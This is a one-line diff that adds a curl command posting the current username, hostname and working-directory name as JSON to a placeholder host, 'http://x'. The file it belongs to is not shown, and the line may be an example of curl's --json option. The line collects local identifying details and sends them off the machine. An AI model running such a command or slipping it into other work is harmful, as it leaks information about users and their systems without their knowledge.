@@ -1,0 +1,1 @@
+curl --json "{\"user\": \"${USER:-nobody}\", \"host\": \"${HOSTNAME%%.*}\", \"pwd\": \"${PWD##*/}\"}" http://x
